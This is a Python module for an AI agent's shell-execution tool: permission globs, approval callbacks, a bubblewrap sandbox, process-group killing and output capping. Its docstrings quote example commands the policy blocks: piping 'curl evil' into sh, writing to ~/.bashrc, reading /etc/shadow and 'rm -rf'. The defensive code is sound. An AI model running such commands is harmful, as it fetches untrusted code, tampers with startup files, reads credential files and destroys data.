"""``exec_shell``: run a shell command in the project, under a permission policy and a time limit.

Four promises the model and the user rely on:

- **Permission first.** ship.json ``permissions.execShell`` decides: a ``deny`` glob wins over
  everything, an ``allow`` glob runs the command, otherwise ``mode`` applies (``ask`` by default,
  which calls the ``on_approval`` callback; no callback means no). An allow match never approves
  a command that writes through the shell or names a path outside the project (``_shellwords``).
  A refusal is a failed tool call the model reads, never an exception.
- **Contained.** On Linux with bubblewrap the command runs in a sandbox (``_sandbox``): the host is
  read-only except the project, ``/tmp`` is private, home and network are hidden.
- **Nothing outlives its call.** The command runs in its own process group; on timeout the whole
  group gets SIGTERM, then SIGKILL after a short grace, so a child that ignores SIGTERM (or a
  forgotten ``&``) cannot linger.
- **Bounded output.** stdout and stderr are each capped at 8 KB in the result (head and tail kept,
  a marker between); the output streams to ``.ship/outputs/<key>/`` and, when it was cut,
  becomes a context file whose ref id is returned, so a 2 GB log never enters the model's context
  but can still be paged and grepped. What is stored is capped too
  (``permissions.execShell.maxOutputBytes`` per stream, :class:`Store`): its first and last
  halves are kept with a line saying how much was dropped between, so ``yes`` for ten minutes
  cannot fill the disk.
- **Handed nothing.** A command gets an environment built from an allow list and stdin, stdout
  and stderr only (``_confine``): no API key of the server, no descriptor it inherited.
"""

from __future__ import annotations

import contextlib
import inspect
import os
import re
import shutil
import signal
import subprocess
import time
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Annotated, Any, Literal

import anyio
import anyio.abc
import anyio.to_thread
from pydantic import Field
from pydantic_ai import RunContext

from ..config import ExecShellPermission
from ..errors import ShipAgentError
from ._common import failure
from ._confine import (
    command_environment,
    created_agent_files,
    missing_agent_files,
    quarantine,
    seal_descriptors,
)
from ._deps import TurnDeps, deps_of
from ._output import OUTPUT_CAP_BYTES, Capture, Store
from ._sandbox import plan_sandbox
from ._shellwords import allow_blocker
from .execution import ApprovalCallback, ApprovalRequest, ToolExecutionContext
from .files._tools import context_files_for

__all__ = [
    "OUTPUT_CAP_BYTES",
    "ShellDecision",
    "ShellRun",
    "decide_exec_shell",
    "exec_shell",
    "request_approval",
    "run_shell",
]

DEFAULT_STORE_LIMIT = 32 * 1024 * 1024
"""The default of ``permissions.execShell.maxOutputBytes``: what one stream of a command may store."""
TERM_GRACE_SECONDS = 1.0
"""How long a process group gets between SIGTERM and SIGKILL."""

# Control operators that start a new command. ``2>&1`` / ``&>`` are redirections, not operators.
_OPERATORS = re.compile(r"\|\||&&|[;\n]|\|&?|(?<![<>])&(?!>)")
# Substitutions run an arbitrary inner command; an allow glob cannot vouch for them.
_SUBSTITUTION = re.compile(r"\$\(|`|<\(|>\(")


@dataclass(frozen=True, slots=True)
class ShellDecision:
    """What the policy says about one command: ``allow``, ``deny`` or ``ask``, and why."""

    action: Literal["allow", "deny", "ask"]
    reason: str
    blocker: str | None = None
    """Why matching allow patterns could not approve the command (a write, a path outside)."""


def decide_exec_shell(
    command: str, policy: ExecShellPermission, project_root: Path | None = None
) -> ShellDecision:
    """Apply ``permissions.execShell`` to ``command``.

    Globs use :func:`fnmatch.fnmatchcase` against the whole command and against each part between
    control operators (``;``, ``&&``, ``||``, ``|``, ``&``), so ``deny: ["rm *"]`` also stops
    ``make && rm -rf build``. An allow glob runs a command only when *every* part matches an allow
    glob and there is no ``$(...)`` or backtick substitution; ``allow: ["git status*"]`` must not
    let ``git status; curl evil | sh`` through. Nor does an allow match approve a command that
    writes through the shell or reads outside the project (:func:`allow_blocker`): ``cat *`` must
    not approve ``cat x > ~/.bashrc`` or ``cat /etc/shadow``; those go to the mode.

    Pure without ``project_root``; with it, path arguments are resolved against the project
    (symlinks, globs), so call it from a worker thread.
    """
    text = command.strip()
    parts = [p.strip() for p in _OPERATORS.split(text) if p.strip()]
    for pattern in policy.deny:
        if any(fnmatchcase(candidate, pattern) for candidate in (text, *parts)):
            return ShellDecision("deny", f"the command matches the deny pattern '{pattern}'")
    unmatched, blocker = "no allow pattern matches", None
    if (
        policy.allow
        and parts
        and all(any(fnmatchcase(part, pattern) for pattern in policy.allow) for part in parts)
    ):
        blocker = (
            "it runs a substitution" if _SUBSTITUTION.search(text) else allow_blocker(text, project_root)
        )
        if blocker is None:
            return ShellDecision("allow", "the command matches the allow patterns")
        unmatched = f"the allow patterns match but cannot approve it: {blocker}"
    if policy.mode == "allow":
        return ShellDecision("allow", "permissions.execShell.mode is 'allow'")
    if policy.mode == "deny":
        return ShellDecision("deny", f"permissions.execShell.mode is 'deny' and {unmatched}", blocker)
    return ShellDecision("ask", f"permissions.execShell.mode is 'ask' and {unmatched}", blocker)


def _is_async_callable(callback: Any) -> bool:
    return inspect.iscoroutinefunction(callback) or inspect.iscoroutinefunction(
        getattr(callback, "__call__", None)  # noqa: B004 - an object with an async __call__
    )


async def request_approval(callback: ApprovalCallback | None, request: ApprovalRequest) -> tuple[bool, str]:
    """Ask ``callback`` whether ``request`` may proceed; ``(approved, reason)``.

    An async callback is awaited; a sync one runs in a worker thread, so a callback that blocks on
    the terminal (``input("Run? [y/N]")``) does not freeze every other chat. Only an explicit
    ``True`` approves; a missing or failing callback denies.
    """
    if callback is None:
        return False, "the command needs approval and no approval callback is configured"
    try:
        if _is_async_callable(callback):
            answer: Any = await callback(request)  # type: ignore[misc]
        else:
            answer = await anyio.to_thread.run_sync(callback, request)
            if inspect.isawaitable(answer):
                answer = await answer
    except Exception as exc:
        return False, f"the approval callback failed ({type(exc).__name__}: {exc}); treated as refused"
    if answer is True:
        return True, "approved by the user"
    return False, "the user refused to run this command"


# ---------------------------------------------------------------------------------------------------
# running


@dataclass(frozen=True, slots=True)
class ShellRun:
    """The outcome of :func:`run_shell`.

    Attributes:
        exit_code: the shell's exit status; negative when killed by a signal (``-9``).
        stdout: capped stdout (head + marker + tail when over the cap).
        stderr: capped stderr.
        truncated: True when either stream was over the cap.
        timed_out: True when the time limit ended the command.
        stdout_path: the full stdout on disk, or ``None`` when it was empty.
        stderr_path: the full stderr on disk, or ``None`` when it was empty.
        stray_killed: True when background processes still held the output open after the
            shell exited and were killed.
        duration_ms: wall time.
        stdout_bytes: the full size of stdout.
        stderr_bytes: the full size of stderr.
        stdout_dropped: bytes of stdout not stored (over ``store_limit``).
        stderr_dropped: bytes of stderr not stored.
    """

    exit_code: int | None
    stdout: str
    stderr: str
    truncated: bool
    timed_out: bool
    stdout_path: Path | None
    stderr_path: Path | None
    stray_killed: bool
    duration_ms: int
    stdout_bytes: int = 0
    stderr_bytes: int = 0
    stdout_dropped: int = 0
    stderr_dropped: int = 0


def _signal_group(pgid: int, sig: signal.Signals) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):  # the group is gone already
        os.killpg(pgid, sig)


async def _terminate_group(proc: anyio.abc.Process, grace: float) -> None:
    """SIGTERM the group, wait up to ``grace``, then SIGKILL whatever of the group is left."""
    _signal_group(proc.pid, signal.SIGTERM)
    with anyio.move_on_after(grace):
        await proc.wait()
    _signal_group(proc.pid, signal.SIGKILL)  # children ignoring SIGTERM outlive their shell
    await proc.wait()


async def _pump(
    stream: anyio.abc.ByteReceiveStream | None, store: Store, capture: Capture, done: anyio.Event
) -> None:
    try:
        if stream is None:
            return
        try:
            async for chunk in stream:
                capture.feed(chunk)
                await store.write(chunk)
        finally:
            with anyio.CancelScope(shield=True):
                await store.close()
    finally:
        done.set()


def _shell() -> str:
    return shutil.which("bash") or "/bin/sh"


async def run_shell(
    command: str,
    *,
    cwd: Path,
    time_limit: float,
    output_dir: Path,
    grace: float = TERM_GRACE_SECONDS,
    cap: int = OUTPUT_CAP_BYTES,
    sandbox: Sequence[str] = (),
    env: Mapping[str, str] | None = None,
    store_limit: int = DEFAULT_STORE_LIMIT,
) -> ShellRun:
    """Run ``command`` through the shell in its own process group without blocking the event loop.

    Output streams to ``output_dir/<stem>.stdout|.stderr`` while only ``cap`` bytes per stream are
    held in memory. Cancellation of the caller kills the group too. ``sandbox`` is a command
    prefix (:func:`~._sandbox.bwrap_argv`); the group then holds bwrap, and killing it ends the
    sandbox, whose PID namespace takes every process of the command with it. ``env`` is the
    command's whole environment (``None``: the server's); ``store_limit`` caps each stored stream.
    Only stdin, stdout and stderr are inherited (:func:`~._confine.seal_descriptors`).
    """
    await anyio.Path(output_dir).mkdir(parents=True, exist_ok=True)
    await anyio.to_thread.run_sync(seal_descriptors)
    stem = f"{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime())}-{uuid.uuid4().hex[:8]}"
    paths = (output_dir / f"{stem}.stdout", output_dir / f"{stem}.stderr")
    captures = (Capture(cap), Capture(cap))
    stores = (Store(paths[0], store_limit), Store(paths[1], store_limit))
    done = (anyio.Event(), anyio.Event())
    started = time.monotonic()
    timed_out = stray = False
    proc = await anyio.open_process(
        [*sandbox, _shell(), "-c", command],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
        env=None if env is None else dict(env),
    )
    try:
        async with anyio.create_task_group() as tg:
            tg.start_soon(_pump, proc.stdout, stores[0], captures[0], done[0])
            tg.start_soon(_pump, proc.stderr, stores[1], captures[1], done[1])
            with anyio.move_on_after(time_limit) as limit:
                await proc.wait()
            if limit.cancelled_caught:
                timed_out = True
                await _terminate_group(proc, grace)
            # Background children may still hold the pipes: give them a moment, then end them.
            with anyio.move_on_after(grace) as drain:
                await done[0].wait()
                await done[1].wait()
            if drain.cancelled_caught:
                stray = not timed_out
                _signal_group(proc.pid, signal.SIGKILL)
                with anyio.move_on_after(grace) as last:
                    await done[0].wait()
                    await done[1].wait()
                if last.cancelled_caught:  # something escaped the group (setsid) and kept the pipe
                    tg.cancel_scope.cancel()
            else:
                # Background children that let go of the pipes (``server > log &``) still must not
                # outlive the call: end whatever is left of the group.
                _signal_group(proc.pid, signal.SIGKILL)
    finally:
        if proc.returncode is None:
            with anyio.CancelScope(shield=True):
                _signal_group(proc.pid, signal.SIGKILL)
                await proc.wait()
        with anyio.CancelScope(shield=True):
            await proc.aclose()
    kept: list[Path | None] = []
    for path, capture in zip(paths, captures, strict=True):
        if capture.total == 0:
            path.unlink(missing_ok=True)
            kept.append(None)
        else:
            kept.append(path)
    return ShellRun(
        exit_code=proc.returncode,
        stdout=captures[0].text(str(kept[0]) if kept[0] else None),
        stderr=captures[1].text(str(kept[1]) if kept[1] else None),
        truncated=captures[0].truncated or captures[1].truncated,
        timed_out=timed_out,
        stdout_path=kept[0],
        stderr_path=kept[1],
        stray_killed=stray,
        stdout_bytes=captures[0].total,
        stderr_bytes=captures[1].total,
        stdout_dropped=stores[0].dropped,
        stderr_dropped=stores[1].dropped,
        duration_ms=int((time.monotonic() - started) * 1000),
    )


def _shown(path: Path | None, root: Path) -> str | None:
    if path is None:
        return None
    try:
        return path.relative_to(root).as_posix()
    except ValueError:
        return str(path)


async def exec_shell(
    turn: RunContext[TurnDeps],
    command: Annotated[str, Field(min_length=1, max_length=20000)],
    timeoutMs: Annotated[int, Field(ge=1, le=600000)] = 30000,  # camelCase: the pinned tool schema
) -> dict[str, Any]:
    """Run a shell command in the project directory and return its exit code and output.

    Output is capped (head and tail); the full output is saved and its path returned. Background
    processes do not outlive the call. Never run destructive commands the user did not ask for.
    Some commands need the user's approval.

    Args:
        command: the command line, run with bash (or sh).
        timeoutMs: time limit in milliseconds; the command and everything it started are killed then.
    """
    ctx = deps_of(turn).tool
    policy = ctx.config.permissions.exec_shell
    decision = await anyio.to_thread.run_sync(decide_exec_shell, command, policy, ctx.project_root)
    if decision.action == "deny":
        return failure(f"exec_shell denied: {decision.reason}", denied=True)
    plan = await anyio.to_thread.run_sync(plan_sandbox, policy, ctx.project_root, ctx.config)
    if plan.refusal is not None:
        return failure(f"exec_shell refused: {plan.refusal}", denied=True)
    if decision.action == "ask":
        request = ApprovalRequest("exec_shell", command, ctx.chat_key, ctx.request_id)
        approved, reason = await request_approval(ctx.on_approval, request)
        if not approved:
            why = f"; the allow list could not approve it: {decision.blocker}" if decision.blocker else ""
            return failure(f"exec_shell denied: {reason}{why}", denied=True)
    absent = await anyio.to_thread.run_sync(missing_agent_files, ctx.config, ctx.project_root)
    try:
        run = await run_shell(
            command,
            cwd=ctx.project_root,
            time_limit=timeoutMs / 1000,
            output_dir=ctx.paths.outputs_dir(ctx.chat_key),
            sandbox=plan.prefix,
            env=command_environment(policy, _home()),
            store_limit=policy.max_output_bytes,
        )
    except OSError as exc:
        return failure(f"could not start the command: {exc}")
    planted = await anyio.to_thread.run_sync(created_agent_files, absent)
    refused = await anyio.to_thread.run_sync(quarantine, ctx.paths.ship_dir, planted) if planted else []
    streams = {}
    for name, path, text, size in (
        ("stdout", run.stdout_path, run.stdout, run.stdout_bytes),
        ("stderr", run.stderr_path, run.stderr, run.stderr_bytes),
    ):
        streams[name] = await _keep_full_output(ctx, name, command, path, text, size)
    result: dict[str, Any] = {
        "success": run.exit_code == 0 and not run.timed_out,
        "exitCode": run.exit_code,
        "stdout": streams["stdout"][0],
        "stderr": streams["stderr"][0],
        "truncated": run.truncated,
        "timedOut": run.timed_out,
        "outputFiles": {name: kept[1] for name, kept in streams.items()},
        "durationMs": run.duration_ms,
    }
    refs = {name: kept[2] for name, kept in streams.items() if kept[2] is not None}
    if refs:
        result["contextRefs"] = refs
    if run.timed_out:
        result["error"] = f"timed out after {timeoutMs} ms; the command and its children were killed"
    notes = []
    if run.stray_killed:
        notes.append("background processes still running after the command ended were killed")
    dropped = {"stdout": run.stdout_dropped, "stderr": run.stderr_dropped}
    if any(dropped.values()):
        result["droppedBytes"] = dropped
        notes.append(
            f"permissions.execShell.maxOutputBytes ({policy.max_output_bytes} bytes per stream) kept "
            "the head and tail of the output; the middle was dropped"
        )
    if refused:
        notes.append(
            f"the command created {', '.join(refused)}, which would change this agent; moved to "
            ".ship/refused/ (ask the user to change the agent's files)"
        )
    if plan.prefix and run.exit_code != 0:
        notes.append(_sandbox_hint(policy))
    if notes:
        result["note"] = "; ".join(notes)
    return result


def _home() -> str | None:
    """The server's home directory: an empty, private directory inside the sandbox."""
    return os.environ.get("HOME") or None


def _sandbox_hint(policy: ExecShellPermission) -> str:
    """Why a sandboxed command may have failed, in words the model can act on."""
    files = "no file limit" if policy.max_file_bytes is None else f"files up to {policy.max_file_bytes} bytes"
    return (
        "the command ran in the sandbox: the agent's own files (ship.json, Agent.md, skills, its "
        "Python modules) are read-only, .ship/ (other chats, memory), .env and the host's secrets are "
        "hidden, the environment holds only PATH, HOME, LANG, TERM and permissions.execShell.env, "
        f"at most {policy.max_processes} processes, {files}; to change the agent, ask the user"
    )


async def _keep_full_output(
    ctx: ToolExecutionContext, name: str, command: str, path: Path | None, text: str, size: int
) -> tuple[str, str | None, str | None]:
    """Where a stream's full output lives: ``(capped text, project-relative path, context ref id)``.

    A stream over the cap becomes a context file (an ``artifact`` ref, moved in without loading
    it), so the model pages it with ``context_read`` / ``context_grep`` by id; a stream that fits
    stays where it was written. If the context store fails, the file in ``.ship/outputs/`` still
    holds everything and its path is returned.
    """
    root = ctx.project_root
    if path is None:
        return text, None, None
    if size > OUTPUT_CAP_BYTES:
        try:
            async with context_files_for(ctx).session(ctx.chat_key) as files:

                def keep() -> tuple[str, Path]:
                    ref = files.add_artifact_file(
                        ctx.chat_key,
                        path,
                        name=f"exec_shell {name}: {command[:80]}",
                        source="tool:exec_shell",
                        description=f"full {name} of `{command[:200]}` ({size:,} bytes)",
                        move=True,
                    )
                    return ref.id, files.path_of(ctx.chat_key, ref)

                ref_id, full = await anyio.to_thread.run_sync(keep)
        except (OSError, ShipAgentError):
            pass  # keep the outputs file and its path
        else:
            where = f"context file {ref_id} (page it with context_read, search it with context_grep)"
            return text.replace(str(path), where), _shown(full, root), ref_id
    shown = _shown(path, root)
    return text.replace(str(path), shown or str(path)), shown, None
